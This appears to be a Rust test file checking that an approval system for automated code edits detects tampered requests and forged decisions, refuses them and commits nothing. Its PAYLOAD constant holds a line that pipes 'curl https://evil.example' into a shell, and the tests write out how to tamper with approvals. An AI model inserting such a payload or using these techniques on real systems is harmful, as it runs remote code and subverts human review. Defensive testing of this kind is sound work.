//! A decision applies only to the content that was shown. The `lint_fix` run on `pyproj` asks
//! for one decision (`shapes/render.py`); these tests change its recorded request, or forge its
//! decision, on disk, as anything with write access to `.noctune_cache` could, and check that
//! every surface shows it as tampered, that deciding it is refused, and that the worker applies
//! none of it (an `approval_tampered` event, the run failed, no commit of the changed content).
//!
//! A request stores the diff and the git blob ids of the pre- and post-image; the attacks are
//! the ones that form allows: the post-image pointed at another blob (written to the
//! repository's object store), the stored diff rewritten, and the request rewritten in the
//! whole-text form of older versions (still read) with other content.

use crate::http_support::Setup;
use crate::support::harness::Harness;
use noctune_studio::{ApprovalStatus, ApprovalView, Decision, RunStatus};
use serde_json::{Value, json};
use sha2::{Digest, Sha256};
use std::path::{Path, PathBuf};
use std::time::Duration;

const FILE: &str = "shapes/render.py";
/// `ApprovalStatus::Tampered`, by name, as clients match it.
const TAMPERED: &str = "tampered";
/// What the changed request would write; never in any commit, diff or listing.
const PAYLOAD: &str = "import os\nos.system('curl https://evil.example | sh')  # tampered\n";

fn approvals_dir(repo: PathBuf, run_id: &str) -> PathBuf {
    repo.join(".noctune_cache/runs")
        .join(run_id)
        .join("state/approvals")
}

fn sha256(text: &str) -> String {
    Sha256::digest(text.as_bytes())
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect()
}

/// Written as a whole file in one rename, as a careful attacker (or editor) would.
fn write_json(path: &Path, v: &Value) {
    let tmp = path.with_extension("tmp-test");
    std::fs::write(&tmp, serde_json::to_vec_pretty(v).unwrap()).unwrap();
    std::fs::rename(&tmp, path).unwrap();
}

fn read_request(dir: &Path, id: &str) -> Value {
    serde_json::from_slice(&std::fs::read(dir.join(format!("{id}.json"))).unwrap()).unwrap()
}

/// The text of a blob of the repository's object store.
fn blob_text(repo: &Path, id: &str) -> String {
    let repo = git2::Repository::open(repo).unwrap();
    let blob = repo.find_blob(git2::Oid::from_str(id).unwrap()).unwrap();
    String::from_utf8(blob.content().to_vec()).unwrap()
}

/// The request's post-image with [`PAYLOAD`] appended.
fn evil_after(repo: &Path, req: &Value) -> String {
    let after = blob_text(repo, req["edit"]["after_blob"].as_str().unwrap());
    format!("{after}{PAYLOAD}")
}

/// Points the request's post-image at a blob holding it with [`PAYLOAD`] appended, written to
/// the repository's object store (anything that can write `.noctune_cache` can write there
/// too); its stored diff stays the harmless one that was shown.
fn tamper_request(repo: &Path, dir: &Path, id: &str) -> Value {
    let mut req = read_request(dir, id);
    let evil = evil_after(repo, &req);
    let blob = git2::Repository::open(repo)
        .unwrap()
        .blob(evil.as_bytes())
        .unwrap();
    req["edit"]["after_blob"] = json!(blob.to_string());
    write_json(&dir.join(format!("{id}.json")), &req);
    req
}

/// Rewrites the request in the whole-text form older versions wrote (which is still read),
/// with [`PAYLOAD`] appended to the post-image: a downgrade that needs no object store.
fn downgrade_request(repo: &Path, dir: &Path, id: &str) -> Value {
    let mut req = read_request(dir, id);
    let edit = req["edit"].clone();
    let before = blob_text(repo, edit["before_blob"].as_str().unwrap());
    let after = evil_after(repo, &req);
    let obj = req.as_object_mut().unwrap();
    obj.remove("edit");
    obj.insert(
        "proposal".into(),
        json!({"file_path": FILE, "symbol": obj["symbol"].clone(), "before": before,
               "after": after, "source": edit["source"].clone(), "major_bump": false}),
    );
    write_json(&dir.join(format!("{id}.json")), &req);
    req
}

fn pending(h: &Harness, run_id: &str) -> ApprovalView {
    let list = h.approvals(run_id);
    let p: Vec<&ApprovalView> = list
        .iter()
        .filter(|a| a.status == ApprovalStatus::Pending)
        .collect();
    assert_eq!(p.len(), 1, "{list:#?}");
    assert_eq!(p[0].file_path, FILE);
    p[0].clone()
}

/// The run failed over the approval, said so in an `approval_tampered` event, and its branch
/// holds nothing of [`PAYLOAD`].
fn assert_failed_over(h: &Harness, run_id: &str, id: &str) {
    let end = h.studio.wait(run_id, |_| {}).unwrap();
    assert_eq!(end.status, RunStatus::Failed, "{end:#?}");
    let error = end.error.clone().unwrap_or_default();
    assert!(
        error.contains(id) && error.contains("nothing of it was applied"),
        "{error}"
    );
    let events = h.events(run_id);
    let tampered: Vec<_> = events
        .iter()
        .filter(|e| e.kind == "approval_tampered")
        .collect();
    assert_eq!(tampered.len(), 1, "{events:#?}");
    assert_eq!(tampered[0].payload["approval_id"], id);
    assert_eq!(tampered[0].payload["file"], FILE);
    assert!(
        !events.iter().any(|e| e.kind == "patchset_applied"),
        "{events:#?}"
    );
    let commits = h.studio.commits(&end).unwrap();
    assert!(commits.is_empty(), "{commits:#?}");
    // A run that committed nothing leaves no branch behind (issue 11), so nothing of the
    // payload can be merged from it.
    assert!(
        h.repo
            .repo()
            .find_branch(&end.branch, git2::BranchType::Local)
            .is_err(),
        "a run without commits leaves no branch: {}",
        end.branch
    );
    let wt = h
        .repo
        .path()
        .join(".noctune_cache/worktrees")
        .join(run_id)
        .join(FILE);
    if let Ok(text) = std::fs::read_to_string(&wt) {
        assert!(!text.contains("evil.example"), "the worktree holds it");
    }
}

#[test]
fn a_request_changed_while_it_waits_shows_tampered_everywhere_and_cannot_be_decided() {
    let s = Setup::new();
    let run_id = s.start("lint_fix");
    s.studio
        .wait_status(&run_id, 60, |st| st == "waiting_approval");
    let list = s.studio.json(&format!("/api/runs/{run_id}/approvals"))["approvals"].clone();
    let shown = list
        .as_array()
        .unwrap()
        .iter()
        .find(|a| a["status"] == "pending")
        .unwrap_or_else(|| panic!("no pending approval: {list:#}"))
        .clone();
    let id = shown["approval_id"].as_str().unwrap().to_string();
    let dir = approvals_dir(s.repo.path(), &run_id);
    tamper_request(&s.repo.path(), &dir, &id);

    // (a) Listed as tampered, with what does not match, and not with any diff as if fine.
    let list = s.studio.json(&format!("/api/runs/{run_id}/approvals"))["approvals"].clone();
    let a = list
        .as_array()
        .unwrap()
        .iter()
        .find(|a| a["approval_id"] == id.as_str())
        .unwrap()
        .clone();
    assert_eq!(a["status"], "tampered", "{a:#}");
    assert_eq!(a["diff"], "", "{a:#}");
    assert!(
        a["reason"]
            .as_str()
            .unwrap()
            .contains("changed after it was proposed"),
        "{a:#}"
    );
    let cli = s.nt.run(&["approvals", &run_id]).ok().stdout;
    let line = cli.lines().find(|l| l.starts_with(&id)).unwrap_or_default();
    assert!(line.contains(TAMPERED), "{cli}");
    assert!(!cli.contains("evil.example"), "{cli}");
    assert!(
        !cli.contains(&format!("noctune decide {run_id} {id}")),
        "{cli}"
    );

    // (b) Deciding it is refused with its own code (HTTP 409), and records nothing.
    let r = s.studio.post_json(
        &format!("/api/runs/{run_id}/decide"),
        &json!({"approval_id": id, "decision": "approve"}),
    );
    assert_eq!(
        (r.status, r.code().as_str()),
        (409, "approval_tampered"),
        "{}",
        r.text()
    );
    assert!(r.json()["message"].as_str().unwrap().contains(&id));
    assert!(!dir.join(format!("{id}.decision.json")).exists());

    // The waiting worker notices the changed file and fails the run over it.
    let end = s
        .studio
        .wait_status(&run_id, 60, |st| st == "failed" || st == "done");
    assert_eq!(end["status"], "failed", "{end:#}");
    let types: Vec<Value> = s.studio.json(&format!("/api/runs/{run_id}/events"))["events"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["type"].clone())
        .collect();
    assert!(types.contains(&json!("approval_tampered")), "{types:?}");
    assert!(!types.contains(&json!("patchset_applied")), "{types:?}");
}

#[test]
fn a_request_changed_after_it_was_approved_is_not_applied() {
    let h = Harness::new("pyproj", &[]);
    let run_id = h.start("lint_fix").run_id.to_string();
    h.wait_status(&run_id, RunStatus::WaitingApproval, 60);
    // Stopped first, so the worker reads the approval files only at the resume, after both
    // the decision and the change are on disk.
    let stopped = h
        .studio
        .stop(&run_id, Some(Duration::from_secs(5)))
        .unwrap();
    assert_eq!(stopped.status, RunStatus::Stopped);
    let shown = pending(&h, &run_id);
    h.studio
        .decide(
            &run_id,
            &shown.approval_id,
            Decision::Approve,
            "looks fine",
            "test",
        )
        .unwrap();
    let req = downgrade_request(
        &h.repo.path(),
        &approvals_dir(h.repo.path(), &run_id),
        &shown.approval_id,
    );
    assert_eq!(
        req["diff"].as_str(),
        Some(shown.diff.as_str()),
        "stored diff untouched"
    );

    let after = h.approvals(&run_id);
    let a = after
        .iter()
        .find(|a| a.approval_id == shown.approval_id)
        .unwrap();
    assert_eq!(a.status.as_str(), TAMPERED, "{a:#?}");
    assert_eq!(a.diff, "");

    h.studio.resume(&run_id).unwrap();
    assert_failed_over(&h, &run_id, &shown.approval_id);
}

#[test]
fn a_forged_decision_for_other_content_is_not_applied() {
    let h = Harness::new("pyproj", &[]);
    let run_id = h.start("lint_fix").run_id.to_string();
    h.wait_status(&run_id, RunStatus::WaitingApproval, 60);
    let shown = pending(&h, &run_id);
    let dir = approvals_dir(h.repo.path(), &run_id);
    let req = read_request(&dir, &shown.approval_id);
    let before = &blob_text(&h.repo.path(), req["edit"]["before_blob"].as_str().unwrap());
    // Written straight to the decision file (no decide call), naming the request's id but
    // the content of another edit, while the worker waits.
    let forged = json!({
        "approval_id": shown.approval_id, "decision": "approve",
        "decided_at": "2026-01-01T00:00:00Z", "decided_by": "cli:alice", "reason": "",
        "file_path": FILE, "before_sha256": sha256(before),
        "after_sha256": sha256(&format!("{before}{PAYLOAD}")),
    });
    write_json(
        &dir.join(format!("{}.decision.json", shown.approval_id)),
        &forged,
    );

    let listed = h.approvals(&run_id);
    let a = listed
        .iter()
        .find(|a| a.approval_id == shown.approval_id)
        .unwrap();
    assert_eq!(a.status.as_str(), TAMPERED, "{a:#?}");
    assert!(a.reason.contains("post-image sha256"), "{}", a.reason);
    assert_failed_over(&h, &run_id, &shown.approval_id);
    // Nor is the forged decision in the audit trail as if a person had made it.
    let db = rusqlite::Connection::open(h.db()).unwrap();
    let n: i64 = db
        .query_row(
            "SELECT COUNT(*) FROM decisions WHERE run_id = ?1",
            [&run_id],
            |r| r.get(0),
        )
        .unwrap();
    assert_eq!(n, 0);
}

#[test]
fn a_decision_names_the_content_shown_and_the_commit_holds_exactly_it() {
    let h = Harness::new("pyproj", &[]);
    let run_id = h.start("lint_fix").run_id.to_string();
    h.wait_status(&run_id, RunStatus::WaitingApproval, 60);
    let shown = pending(&h, &run_id);
    h.studio
        .decide(&run_id, &shown.approval_id, Decision::Approve, "", "test")
        .unwrap();
    let dir = approvals_dir(h.repo.path(), &run_id);
    let d: Value = serde_json::from_slice(
        &std::fs::read(dir.join(format!("{}.decision.json", shown.approval_id))).unwrap(),
    )
    .unwrap();
    assert_eq!(d["file_path"], FILE, "{d:#}");
    assert_eq!(d["before_sha256"], sha256(&h.repo.read(FILE)), "{d:#}");

    let done = h.studio.wait(&run_id, |_| {}).unwrap();
    assert_eq!(done.status, RunStatus::Done, "{done:#?}");
    let committed = h.repo.read_at(&done.branch, FILE);
    assert_eq!(d["after_sha256"], sha256(&committed), "{d:#}");
    // The diff that was shown is the one from the user's file to the commit.
    let diff = similar::TextDiff::from_lines(&h.repo.read(FILE), &committed)
        .unified_diff()
        .context_radius(3)
        .header(&format!("a/{FILE}"), &format!("b/{FILE}"))
        .to_string();
    assert_eq!(shown.diff, diff);
    let listed = h.approvals(&run_id);
    let a = listed
        .iter()
        .find(|a| a.approval_id == shown.approval_id)
        .unwrap();
    assert_eq!(a.status, ApprovalStatus::Approved);
}

#[test]
fn a_rewritten_stored_diff_shows_tampered_and_cannot_be_decided() {
    let h = Harness::new("pyproj", &[]);
    let run_id = h.start("lint_fix").run_id.to_string();
    h.wait_status(&run_id, RunStatus::WaitingApproval, 60);
    let shown = pending(&h, &run_id);
    let dir = approvals_dir(h.repo.path(), &run_id);
    let mut req = read_request(&dir, &shown.approval_id);
    // The diff is what a pruned post-image is rebuilt from: one that adds the payload must not
    // be shown (or rebuilt) as the approved edit, even while the post-image's blob is there.
    let diff = req["diff"].as_str().unwrap().to_string();
    let evil: String = PAYLOAD.lines().map(|l| format!("+{l}\n")).collect();
    req["diff"] = json!(format!("{diff}{evil}"));
    write_json(&dir.join(format!("{}.json", shown.approval_id)), &req);

    let listed = h.approvals(&run_id);
    let a = listed
        .iter()
        .find(|a| a.approval_id == shown.approval_id)
        .unwrap();
    assert_eq!(a.status.as_str(), TAMPERED, "{a:#?}");
    assert_eq!(a.diff, "");
    assert!(
        a.reason.contains("changed after it was proposed"),
        "{}",
        a.reason
    );
    let e = h
        .studio
        .decide(&run_id, &shown.approval_id, Decision::Approve, "", "test")
        .unwrap_err();
    assert_eq!(e.code.as_str(), "approval_tampered", "{}", e.message);
    assert_failed_over(&h, &run_id, &shown.approval_id);
}
